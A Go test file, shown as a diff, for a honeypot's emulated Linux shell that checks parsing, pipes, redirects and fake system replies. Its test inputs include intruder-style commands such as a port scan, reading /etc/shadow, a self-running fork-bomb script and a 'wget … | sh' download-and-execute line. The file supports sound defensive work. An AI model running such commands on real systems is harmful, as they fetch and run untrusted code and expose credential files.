@@ -0,0 +1,243 @@
+package shell
+
+import (
+	"bytes"
+	"fmt"
+	"io"
+	"io/fs"
+	"path"
+	"strings"
+	"testing"
+	"time"
+
+	"phantom-grid/internal/honeypot/vfs"
+)
+
+// testFiles are the files of the test image, with their modes
+var testFiles = map[string]struct {
+	content string
+	mode    fs.FileMode
+}{
+	"/etc/passwd":        {"root:x:0:0:root:/root:/bin/bash\ndaemon:x:1:1:daemon:/usr/sbin:/usr/sbin/nologin\nuser:x:1000:1000::/home/user:/bin/bash\n", 0644},
+	"/etc/group":         {"root:x:0:\nshadow:x:42:\nuser:x:1000:\n", 0644},
+	"/etc/shadow":        {"root:$6$salt$hash:18000:0:99999:7:::\n", 0640},
+	"/root/.bashrc":      {"# ~/.bashrc\n", 0644},
+	"/root/notes.txt":    {"one\ntwo\nthree\n", 0644},
+	"/tmp/run.sh":        {"echo from script\n", 0644},
+	"/tmp/bot":           {"\x7fELF\x02\x01\x01\x00", 0755},
+	"/var/log/auth.log":  {"", 0640},
+	"/home/user/.bashrc": {"", 0644},
+}
+
+// testTime is when the files of the test image were last changed
+var testTime = time.Date(2021, 12, 15, 10, 23, 0, 0, time.UTC)
+
+func newTestFS(t *testing.T) *vfs.FS {
+	t.Helper()
+	f := vfs.New()
+	f.Now = func() time.Time { return testTime }
+	for p, file := range testFiles {
+		if err := f.MkdirAll(path.Dir(p), 0755); err != nil {
+			t.Fatal(err)
+		}
+		if err := f.WriteFile(p, []byte(file.content), file.mode); err != nil {
+			t.Fatal(err)
+		}
+	}
+	f.Chown("/etc/shadow", 0, 42)
+	f.Chown("/home/user", 1000, 1000)
+	f.Chmod("/root", 0700)
+	return f.Overlay()
+}
+
+func newTestSession(t *testing.T) *Session {
+	s := NewSession(newTestFS(t), DefaultRegistry())
+	s.Sleep = func(time.Duration) {}
+	return s
+}
+
+func TestSessionRun(t *testing.T) {
+	tests := []struct {
+		name       string
+		lines      []string // Run in order; only the output of the last is checked
+		want       string
+		wantStatus int
+	}{
+		{"echo", []string{"echo hello world"}, "hello world\n", 0},
+		{"echo -n", []string{"echo -n x"}, "x", 0},
+		{"echo -e hex", []string{`echo -e '\x41\x42'`}, "AB\n", 0},
+		{"not found", []string{"nmap -sS 10.0.0.1"}, "-bash: nmap: command not found\n", 127},
+		{"path not found", []string{"./bot"}, "-bash: ./bot: No such file or directory\n", 127},
+		{"path not executable", []string{"/tmp/run.sh"}, "-bash: /tmp/run.sh: Permission denied\n", 126},
+		{"script", []string{"chmod +x /tmp/run.sh", "/tmp/run.sh"}, "from script\n", 0},
+		{"script by relative path", []string{"cd /tmp", "chmod 755 run.sh; ./run.sh"}, "from script\n", 0},
+		{"binary", []string{"/tmp/bot"}, "-bash: /tmp/bot: cannot execute binary file: Exec format error\n", 126},
+		{"directory", []string{"/tmp"}, "-bash: /tmp: Is a directory\n", 126},
+		{"sh file", []string{"sh /tmp/run.sh"}, "from script\n", 0},
+		{"sh stdin", []string{"cat /tmp/run.sh | sh"}, "from script\n", 0},
+		{"source", []string{". /tmp/run.sh"}, "from script\n", 0},
+		{"script runs itself", []string{"echo 'sh /tmp/loop.sh' > /tmp/loop.sh", "sh /tmp/loop.sh"}, "-bash: fork: retry: Resource temporarily unavailable\n", 254},
+		{"syntax error", []string{"ls ||"}, "-bash: syntax error near unexpected token `newline'\n", 2},
+		{"sequence", []string{"echo a; echo b"}, "a\nb\n", 0},
+		{"and runs on success", []string{"true && echo yes"}, "yes\n", 0},
+		{"and skips on failure", []string{"false && echo yes"}, "", 1},
+		{"or runs on failure", []string{"false || echo no"}, "no\n", 0},
+		{"or chain", []string{"false && echo a || echo b"}, "b\n", 0},
+		{"background", []string{"true & echo x"}, "", 0},
+		{"pipe", []string{"cat /etc/passwd | grep bash | wc -l"}, "2\n", 0},
+		{"pipe status is last", []string{"false | true"}, "", 0},
+		{"grep no match", []string{"grep nothing /etc/passwd"}, "", 1},
+		{"head", []string{"head -n 1 /root/notes.txt"}, "one\n", 0},
+		{"tail stdin", []string{"cat notes.txt | tail -2"}, "two\nthree\n", 0},
+		{"head all but last", []string{"head -n -1 /root/notes.txt"}, "one\ntwo\n", 0},
+		{"head all but more than there are", []string{"head -n -5 /root/notes.txt"}, "", 0},
+		{"head more than there are", []string{"head -n 5 /root/notes.txt"}, "one\ntwo\nthree\n", 0},
+		{"tail negative", []string{"tail -n -1 /root/notes.txt"}, "three\n", 0},
+		{"tail from line", []string{"tail -n +2 /root/notes.txt"}, "two\nthree\n", 0},
+		{"tail from past the end", []string{"tail -n +9 /root/notes.txt"}, "", 0},
+		{"tail more than there are", []string{"tail -n 5 /root/notes.txt"}, "one\ntwo\nthree\n", 0},
+		{"cd and pwd", []string{"cd /var/log", "pwd"}, "/var/log\n", 0},
+		{"cd relative", []string{"cd /var", "cd log; pwd"}, "/var/log\n", 0},
+		{"cd missing", []string{"cd /nope"}, "-bash: cd: /nope: No such file or directory\n", 1},
+		{"cd file", []string{"cd /etc/passwd"}, "-bash: cd: /etc/passwd: Not a directory\n", 1},
+		{"cd dash", []string{"cd /tmp", "cd /etc", "cd -"}, "/tmp\n", 0},
+		{"cd home", []string{"cd /tmp", "cd", "pwd"}, "/root\n", 0},
+		{"export", []string{"export A=1", "echo $A"}, "1\n", 0},
+		{"assignment", []string{"A=2", "echo $A"}, "2\n", 0},
+		{"temporary assignment", []string{"A=1", "A=2 true", "echo $A"}, "1\n", 0},
+		{"unset", []string{"A=1", "unset A", "echo x${A}x"}, "xx\n", 0},
+		{"status", []string{"false", "echo $?"}, "1\n", 0},
+		{"status not found", []string{"nope 2>/dev/null", "echo $?"}, "127\n", 0},
+		{"stdout redirected", []string{"echo hidden > /tmp/x"}, "", 0},
+		{"redirect then read", []string{"echo a > /tmp/x; echo b >> /tmp/x; cat /tmp/x"}, "a\nb\n", 0},
+		{"redirect truncates", []string{"echo a > /tmp/x", "echo b > /tmp/x", "cat /tmp/x"}, "b\n", 0},
+		{"redirect to missing dir", []string{"echo a > /nope/x"}, "-bash: /nope/x: No such file or directory\n", 1},
+		{"redirect to dir", []string{"echo a > /tmp"}, "-bash: /tmp: Is a directory\n", 1},
+		{"dev null", []string{"echo a > /dev/null"}, "", 0},
+		{"stderr discarded", []string{"cat /missing 2>/dev/null"}, "", 1},
+		{"stderr to stdout in pipe", []string{"cat /missing 2>&1 | wc -l"}, "1\n", 0},
+		{"both discarded", []string{"cat /missing &>/dev/null"}, "", 1},
+		{"input redirect", []string{"wc -l < /root/notes.txt"}, "3\n", 0},
+		{"quoted argument", []string{`echo "a   b"`}, "a   b\n", 0},
+		{"single quotes keep vars", []string{`echo '$HOME'`}, "$HOME\n", 0},
+		{"ls", []string{"ls /etc"}, "group  passwd  shadow\n", 0},
+		{"ls hidden", []string{"ls"}, "notes.txt\n", 0},
+		{"ls all", []string{"ls -a"}, ".  ..  .bashrc  notes.txt\n", 0},
+		{"ls almost all", []string{"ls -A"}, ".bashrc  notes.txt\n", 0},
+		{"ls missing", []string{"ls /nope"}, "ls: cannot access '/nope': No such file or directory\n", 2},
+		{"cat shadow", []string{"cat /etc/shadow"}, "root:$6$salt$hash:18000:0:99999:7:::\n", 0},
+		{"cat directory", []string{"cat /etc"}, "cat: /etc: Is a directory\n", 1},
+		{"uname", []string{"uname -a"}, "Linux server 5.4.0-74-generic #83-Ubuntu SMP Sat May 8 02:35:04 UTC 2021 x86_64 x86_64 x86_64 GNU/Linux\n", 0},
+		{"uname -m", []string{"uname -m"}, "x86_64\n", 0},
+		{"whoami", []string{"whoami"}, "root\n", 0},
+		{"sudo", []string{"sudo -n whoami"}, "root\n", 0},
+		{"busybox applet", []string{"/bin/busybox echo hi"}, "hi\n", 0},
+		{"busybox unknown applet", []string{"busybox ECCHI"}, "ECCHI: applet not found\n", 127},
+		{"sh -c", []string{`sh -c "echo a && echo b"`}, "a\nb\n", 0},
+		{"which", []string{"which wget nmap"}, "/usr/bin/wget\n", 1},
+		{"find", []string{"find /var -name '*.log'"}, "/var/log/auth.log\n", 0},
+		{"history", []string{"echo a", "history"}, "    1  echo a\n    2  history\n", 0},
+		{"exit status", []string{"exit 3"}, "logout\n", 3},
+	}
+
+	for _, tt := range tests {
+		t.Run(tt.name, func(t *testing.T) {
+			s := newTestSession(t)
+			var out bytes.Buffer
+			status := 0
+			for _, line := range tt.lines {
+				out.Reset()
+				status = s.Run(&out, line)
+			}
+			if tt.name == "background" {
+				// The job line carries the session's PID
+				if !strings.HasPrefix(out.String(), "[1] ") || !strings.HasSuffix(out.String(), "\nx\n") {
+					t.Errorf("output = %q, want a job line and x", out.String())
+				}
+			} else if out.String() != tt.want {
+				t.Errorf("output = %q, want %q", out.String(), tt.want)
+			}
+			if status != tt.wantStatus {
+				t.Errorf("status = %d, want %d", status, tt.wantStatus)
+			}
+		})
+	}
+}
+
+func TestSessionExit(t *testing.T) {
+	s := newTestSession(t)
+	var out bytes.Buffer
+	s.Run(&out, "exit; echo after")
+	if !s.Exited() {
+		t.Error("session did not exit")
+	}
+	if out.String() != "logout\n" {
+		t.Errorf("output = %q, want only logout", out.String())
+	}
+}
+
+func TestSessionHistoryLimit(t *testing.T) {
+	s := newTestSession(t)
+	for i := 0; i < MaxHistory+5; i++ {
+		s.Run(io.Discard, fmt.Sprintf("true %d", i))
+	}
+	if len(s.History) != MaxHistory || s.History[0] != "true 5" {
+		t.Errorf("history has %d lines from %q, want the last %d", len(s.History), s.History[0], MaxHistory)
+	}
+}
+
+func TestSessionTTY(t *testing.T) {
+	s := newTestSession(t)
+	s.TTY = true
+	var out bytes.Buffer
+	s.Run(&out, "echo a; echo b")
+	if out.String() != "a\r\nb\r\n" {
+		t.Errorf("output = %q, want CRLF line endings", out.String())
+	}
+}
+
+func TestSessionPrompt(t *testing.T) {
+	s := newTestSession(t)
+	tests := []struct {
+		cwd  string
+		user string
+		want string
+	}{
+		{"/root", "root", "root@server:~# "},
+		{"/root/.ssh", "root", "root@server:~/.ssh# "},
+		{"/tmp", "root", "root@server:/tmp# "},
+		{"/tmp", "admin", "admin@server:/tmp$ "},
+	}
+	for _, tt := range tests {
+		s.Cwd, s.User = tt.cwd, tt.user
+		if got := s.Prompt(); got != tt.want {
+			t.Errorf("Prompt() in %s as %s = %q, want %q", tt.cwd, tt.user, got, tt.want)
+		}
+	}
+}
+
+func TestRegistryPlugin(t *testing.T) {
+	r := DefaultRegistry().Clone()
+	var got []string
+	r.Register(func(ctx *Context) int {
+		got = ctx.Args
+		ctx.Printf("echo fetched\n")
+		return 0
+	}, "wget")
+
+	s := NewSession(newTestFS(t), r)
+	s.Sleep = func(time.Duration) {}
+	var out bytes.Buffer
+	s.Run(&out, "cd /tmp && busybox wget http://x/y -O- | sh")
+	if strings.Join(got, " ") != "http://x/y -O-" {
+		t.Errorf("plugin got args %q", got)
+	}
+	if out.String() != "fetched\n" {
+		t.Errorf("output = %q, want the download piped to sh", out.String())
+	}
+
+	// The default registry is unchanged
+	if cmd, _ := DefaultRegistry().Lookup("wget"); cmd == nil {
+		t.Fatal("default registry lost wget")
+	}
+}